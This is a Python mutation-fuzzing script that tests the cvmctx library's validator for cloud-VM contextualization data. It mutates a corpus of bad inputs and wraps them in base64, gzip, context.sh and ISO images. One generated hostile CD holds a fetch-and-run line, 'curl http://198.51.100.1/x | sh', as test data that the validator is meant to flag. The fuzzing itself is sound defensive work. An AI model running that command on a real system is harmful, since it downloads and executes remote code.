#!/usr/bin/env python3
"""Fuzz ``cvmctx.api.validate_bytes`` in-process with mutations of the bad-input corpus.

    .venv/bin/python scripts/fuzz.py --count 1000000 [--seed N] [--jobs 2] [--out DIR]

No dependency beyond cvmctx: a mutation fuzzer over the seeds in tests/bad-inputs (bit flips,
byte edits, insertions of tokens the readers care about such as ``\\n[``, `` ;``, ``#!/bin/sh``,
``=``, ``\\r``, ``\\x00``, truncation, duplication, splicing, and base64 / gzip / context.sh /
ISO wrapping), guided a little: an input whose set of finding codes was never seen before joins
the pool it mutates. Work is split into chunks, chunk ``i`` seeded from ``(seed, i)``, so a
run is reproducible whatever ``--jobs`` is.

Any exception from ``validate_bytes`` is a crash: the input goes to ``DIR/crash-<hash>.bin``
with its traceback in ``crash-<hash>.txt``, and the run exits 1. Inputs slower than
``--slow-ms`` go to ``DIR/slow-<hash>.bin`` (reported, not a failure).

An input whose text starts with ``#!`` makes validation run ``bash -n`` in a subprocess, a
thousand times slower than the rest; such inputs are kept to ``--script-share`` of the total
(the count of real ``bash -n`` runs is reported at the end).
"""

from __future__ import annotations

import argparse
import base64
import gzip
import hashlib
import multiprocessing
import os
import random
import sys
import tempfile
import time
import traceback
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
CORPUS = ROOT / "tests" / "bad-inputs"
sys.path.insert(0, str(ROOT))

SUFFIXES = (".txt", ".b64", ".gz", ".sh", ".iso")
MAX_SIZE = 64 * 1024  # mutated inputs are cut to this: big inputs only slow the search down
SEED_BUDGET_MS = 50.0  # seeds slower than this (the gzip bomb) are left out
POOL_MAX = 512  # inputs kept for new finding-code sets, per chunk
TOKENS = [
    b"\n[", b"]", b" ;", b";", b"#!/bin/sh", b"#!/bin/sh.before", b"=", b":", b"\r", b"\r\n",
    b"\x00", b"\n", b"\n ", b"\t", b"#", b",", b"|", b"$", b"$(", b"`", b"'", b'"', b"\\",
    b"[cernvm]\n", b"[amiconfig]\nplugins = cernvm\n", b"[ucernvm-begin]\n", b"[ucernvm-end]\n",
    b"[DEFAULT]\n", b"exit\n", b"<<EOF\n", b"\nEOF\n", b"rem ", b"\xef\xbb\xbf", b"\x1f\x8b\x08",
    b"EC2_USER_DATA=", b"ROOT_PUBKEY=", b"PUBLIC_KEY=", b"export ", b"==", b"$6$", b"%41",
    b"http://", b"Content-Type: multipart/mixed; boundary=B\n--B\n", b"\xc3", b"\xff", b"\xa0",
    b"users = a:b:c\n", b"-----BEGIN ", b"-----END ", b"CD001", b"\x0b", b"\x0c",
]  # fmt: skip


# ------------------------------------------------------------------------------ mutations


def _gz(data: bytes) -> bytes:
    return gzip.compress(data, compresslevel=1, mtime=0)


def _context_sh(data: bytes) -> bytes:
    return b'EC2_USER_DATA="' + base64.b64encode(data) + b'"\nONE_CONTEXT_PATH="/var/lib"\n'


def _iso(data: bytes) -> bytes:
    from cvmctx.cd.image import CdFile, build_image

    return build_image([CdFile("context.sh", _context_sh(data))], "CONTEXT", 0)


def _cd_structure(rng: random.Random, data: bytes) -> bytes:
    """A context CD whose directory structure is hostile: one name twice (the first context.sh
    runs something else), many names on one extent, or a deep tree of directories. Later
    mutations flip bits in its directory records (extents, lengths)."""
    import io

    import pycdlib

    from cvmctx.cd.image import _frozen_clock

    body = _context_sh(data)
    iso = pycdlib.PyCdlib()
    out = io.BytesIO()
    with _frozen_clock(0):
        iso.new(interchange_level=3, vol_ident="CONTEXT", joliet=3, rock_ridge="1.09")
        kind = rng.randrange(3)
        if kind == 0:  # the same Rock Ridge name twice, the first one hostile
            evil = b"curl http://198.51.100.1/x | sh\n" if rng.random() < 0.5 else _context_sh(b"")
            for number, text in enumerate((evil, body), start=1):
                iso.add_fp(io.BytesIO(text), len(text), f"/CONTEXT{number}.SH;1",
                           rr_name="context.sh", joliet_path=f"/context{number}.sh")  # fmt: skip
        else:
            iso.add_fp(io.BytesIO(body), len(body), "/CONTEXT.SH;1", rr_name="context.sh",
                       joliet_path="/context.sh")  # fmt: skip
        if kind == 1:  # many names for one extent
            for k in range(rng.randint(2, 300)):
                iso.add_hard_link(iso_old_path="/CONTEXT.SH;1", iso_new_path=f"/L{k}.SH;1",
                                  rr_name=f"l{k}.sh")  # fmt: skip
        elif kind == 2:  # a deep tree
            path = ""
            for depth in range(rng.randint(1, 7)):
                path += f"/D{depth}"
                iso.add_directory(path, rr_name=f"d{depth}", joliet_path=path.lower())
        iso.write_fp(out)
        iso.close()
    return out.getvalue()


def _unwrap(data: bytes) -> bytes:
    """Undo one layer (base64 or gzip) if there is one, else leave the input as it is."""
    try:
        if data[:2] == b"\x1f\x8b":
            return gzip.decompress(data)[:MAX_SIZE]
        return base64.b64decode(data, validate=False)
    except Exception:  # any failure means "not that layer"
        return data


def _flip(rng: random.Random, data: bytes) -> bytes:
    if not data:
        return bytes([rng.randrange(256)])
    out = bytearray(data)
    # Half the time hit a non-zero byte: in an ISO image that is structure, not padding.
    busy = [i for i in range(len(out)) if out[i]] if rng.random() < 0.5 else []
    for _ in range(rng.choice((1, 1, 2, 4, 8))):
        i = rng.choice(busy) if busy else rng.randrange(len(out))
        out[i] ^= 1 << rng.randrange(8)
    return bytes(out)


def _byte_edit(rng: random.Random, data: bytes) -> bytes:
    i = rng.randrange(len(data) + 1)
    kind = rng.randrange(3)
    if kind == 0:  # insert random bytes
        return data[:i] + rng.randbytes(rng.randint(1, 8)) + data[i:]
    if kind == 1:  # delete a range
        return data[:i] + data[i + rng.randint(1, 16) :]
    return data[:i] + bytes([rng.choice(b"\x00\n\r []=:;#!$\"'\\")]) + data[i + 1 :]


def _token(rng: random.Random, data: bytes) -> bytes:
    i = rng.randrange(len(data) + 1)
    if rng.random() < 0.5 and data:  # prefer line starts: that is where readers decide
        starts = [0] + [k + 1 for k in range(len(data)) if data[k] == 10]
        i = rng.choice(starts)
    return data[:i] + rng.choice(TOKENS) + data[i:]


def _truncate(rng: random.Random, data: bytes) -> bytes:
    return data[: rng.randrange(len(data) + 1)]


def _duplicate(rng: random.Random, data: bytes) -> bytes:
    if not data:
        return data
    a = rng.randrange(len(data))
    b = min(len(data), a + rng.randint(1, 256))
    i = rng.randrange(len(data) + 1)
    if rng.random() < 0.2:
        return data * rng.randint(2, 4)
    return data[:i] + data[a:b] * rng.randint(1, 3) + data[i:]


_LINE_END_EDITS: tuple[Callable[[bytes], bytes], ...] = (
    lambda d: d.replace(b"\n", b"\r\n"),
    lambda d: d.replace(b"\n", b"\r"),
    lambda d: d.replace(b"\r\n", b"\n"),
    lambda d: b"\xef\xbb\xbf" + d,
    lambda d: d.rstrip(b"\n"),
    lambda d: b"  " + d.replace(b"\n", b"\n  ", 1),
)


def _line_ends(rng: random.Random, data: bytes) -> bytes:
    return rng.choice(_LINE_END_EDITS)(data)


def _wrap(rng: random.Random, data: bytes) -> bytes:
    roll = rng.random()
    if roll < 0.3:
        return base64.b64encode(data)
    if roll < 0.45:
        return base64.encodebytes(data)
    if roll < 0.65:
        return _gz(data)
    if roll < 0.8:
        return _context_sh(data)
    if roll < 0.82:
        return _iso(data)
    if roll < 0.84:
        return _cd_structure(rng, data)
    return _unwrap(data)


MUTATIONS: list[tuple[Callable[[random.Random, bytes], bytes], int]] = [
    (_flip, 4),
    (_byte_edit, 4),
    (_token, 8),
    (_truncate, 2),
    (_duplicate, 2),
    (_line_ends, 1),
    (_wrap, 2),
]
_FUNCS = [f for f, _ in MUTATIONS]
_WEIGHTS = [w for _, w in MUTATIONS]


def mutate(rng: random.Random, data: bytes, other: bytes) -> bytes:
    for _ in range(rng.choice((1, 1, 1, 2, 2, 3, 4))):
        if rng.random() < 0.05 and other:  # splice two inputs
            data = data[: rng.randrange(len(data) + 1)] + other[rng.randrange(len(other)) :]
            continue
        data = rng.choices(_FUNCS, _WEIGHTS)[0](rng, data)
        if len(data) > MAX_SIZE:
            data = data[:MAX_SIZE]
    return data


def runs_bash(data: bytes) -> bool:
    """Cheap guess whether validation runs `bash -n`: the text starts with '#!'."""
    return data.lstrip(b" \t\r\n")[:2] == b"#!"


# ------------------------------------------------------------------------------ running


@dataclass
class Stats:
    inputs: int = 0
    bash_runs: int = 0
    crashes: list[tuple[str, str]] = field(default_factory=list)  # (signature, file)
    slow: list[tuple[float, str]] = field(default_factory=list)  # (ms, file)
    slowest_ms: float = 0.0
    code_sets: int = 0

    def add(self, other: Stats) -> None:
        self.inputs += other.inputs
        self.bash_runs += other.bash_runs
        self.crashes += other.crashes
        self.slow += other.slow
        self.slowest_ms = max(self.slowest_ms, other.slowest_ms)
        self.code_sets += other.code_sets


_SEEDS: list[bytes] = []
_BASH_RUNS = [0]


def _init_worker(seeds: list[bytes]) -> None:
    import cvmctx.guest.script.bashcheck as bashcheck

    _SEEDS[:] = seeds
    original = bashcheck.bash_check

    def counted(text: str) -> bashcheck.BashCheck:
        _BASH_RUNS[0] += 1
        return original(text)

    bashcheck.bash_check = counted


def _signature(exc: BaseException) -> str:
    frames = traceback.extract_tb(exc.__traceback__)
    last = frames[-1] if frames else None
    where = f"{Path(last.filename).name}:{last.lineno}" if last else "?"
    return f"{type(exc).__name__} at {where}"


def _save(out: Path, kind: str, data: bytes, text: str) -> str:
    digest = hashlib.sha1(data).hexdigest()[:16]
    out.mkdir(parents=True, exist_ok=True)
    path = out / f"{kind}-{digest}.bin"
    path.write_bytes(data)
    path.with_suffix(".txt").write_text(text, encoding="utf-8")
    return str(path)


def run_chunk(args: tuple[int, int, int, float, float, str]) -> Stats:
    seed, chunk, count, script_share, slow_ms, out_dir = args
    from cvmctx.api import validate_bytes

    rng = random.Random(f"{seed}:{chunk}")
    out = Path(out_dir)
    stats = Stats()
    pool = list(_SEEDS)
    seen_sets: set[frozenset[str]] = set()
    seen_crashes: set[str] = set()
    scripts = 0
    bash_before = _BASH_RUNS[0]
    while stats.inputs < count:
        data = mutate(rng, rng.choice(pool), rng.choice(pool))
        if runs_bash(data):
            if scripts + 1 > script_share * (stats.inputs + 1):
                continue  # over the budget of slow script inputs: draw another
            scripts += 1
        stats.inputs += 1
        start = time.perf_counter()
        try:
            result = validate_bytes(data, "fuzz")
        except Exception as exc:  # every exception is a finding here
            sig = _signature(exc)
            if sig not in seen_crashes:
                seen_crashes.add(sig)
                tb = "".join(traceback.format_exception(exc))
                shown = repr(data[:400]) + (f" ... ({len(data)} B)" if len(data) > 400 else "")
                path = _save(out, "crash", data, f"{sig}\n\ninput: {shown}\n\n{tb}")
                stats.crashes.append((sig, path))
            continue
        ms = (time.perf_counter() - start) * 1000
        stats.slowest_ms = max(stats.slowest_ms, ms)
        if ms > slow_ms:
            stats.slow.append((ms, _save(out, "slow", data, f"{ms:.0f} ms\n")))
        codes = frozenset(d.code for d in result.report)
        if codes not in seen_sets:
            seen_sets.add(codes)
            if len(pool) < len(_SEEDS) + POOL_MAX:
                pool.append(data)
    stats.code_sets = len(seen_sets)
    stats.bash_runs = _BASH_RUNS[0] - bash_before
    return stats


def load_seeds() -> tuple[list[bytes], list[str]]:
    from cvmctx.api import validate_bytes

    seeds: list[bytes] = []
    left_out: list[str] = []
    for path in sorted(CORPUS.iterdir()):
        if path.suffix not in SUFFIXES:
            continue
        data = path.read_bytes()
        start = time.perf_counter()
        validate_bytes(data, path.name)
        if (time.perf_counter() - start) * 1000 > SEED_BUDGET_MS or len(data) > 2 * MAX_SIZE:
            left_out.append(path.name)
            continue
        seeds.append(data)
    return seeds, left_out


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--count", type=int, default=100_000, help="inputs to try")
    parser.add_argument("--seed", type=int, default=None, help="random seed (default: random)")
    parser.add_argument("--jobs", type=int, default=os.cpu_count() or 1, help="processes")
    parser.add_argument("--chunk", type=int, default=5000, help="inputs per work unit")
    parser.add_argument("--out", type=Path, default=Path(tempfile.gettempdir()) / "cvmctx-fuzz",
                        help="where crash and slow reproducers go")  # fmt: skip
    parser.add_argument("--script-share", type=float, default=0.02,
                        help="most share of inputs starting with '#!' (bash -n runs)")  # fmt: skip
    parser.add_argument("--slow-ms", type=float, default=2000.0,
                        help="save inputs that take longer than this")  # fmt: skip
    args = parser.parse_args()
    seed = args.seed if args.seed is not None else random.SystemRandom().randrange(2**32)

    seeds, left_out = load_seeds()
    print(f"fuzz: seed {seed}, {len(seeds)} corpus seeds"
          + (f" (left out as slow: {', '.join(left_out)})" if left_out else "")
          + f", {args.count} inputs, {args.jobs} jobs", flush=True)  # fmt: skip
    chunks: list[tuple[int, int, int, float, float, str]] = []
    left = args.count
    while left > 0:
        n = min(args.chunk, left)
        chunks.append((seed, len(chunks), n, args.script_share, args.slow_ms, str(args.out)))
        left -= n

    total = Stats()
    start = time.perf_counter()
    last_report = start
    with multiprocessing.get_context("fork").Pool(
        args.jobs, initializer=_init_worker, initargs=(seeds,)
    ) as pool:
        for stats in pool.imap_unordered(run_chunk, chunks):
            total.add(stats)
            for sig, path in stats.crashes:
                print(f"fuzz: CRASH {sig}: {path}", flush=True)
            for ms, path in stats.slow:
                print(f"fuzz: slow input ({ms:.0f} ms): {path}", flush=True)
            now = time.perf_counter()
            if now - last_report > 30 or total.inputs == args.count:
                last_report = now
                rate = total.inputs / (now - start)
                print(f"fuzz: {total.inputs}/{args.count} inputs, {rate:.0f} inputs/s, "
                      f"{len(total.crashes)} crashes", flush=True)  # fmt: skip
    elapsed = time.perf_counter() - start
    signatures = sorted({sig for sig, _ in total.crashes})
    print(
        f"fuzz: done: {total.inputs} inputs in {elapsed:.0f} s ({total.inputs / elapsed:.0f} "
        f"inputs/s), {len(signatures)} distinct crashes, {len(total.slow)} slow inputs, "
        f"slowest {total.slowest_ms:.0f} ms, bash -n runs {total.bash_runs} "
        f"({100 * total.bash_runs / max(1, total.inputs):.1f}%), seed {seed}"
    )
    for sig in signatures:
        print(f"fuzz: crash: {sig}")
    return 1 if total.crashes else 0


if __name__ == "__main__":
    sys.exit(main())
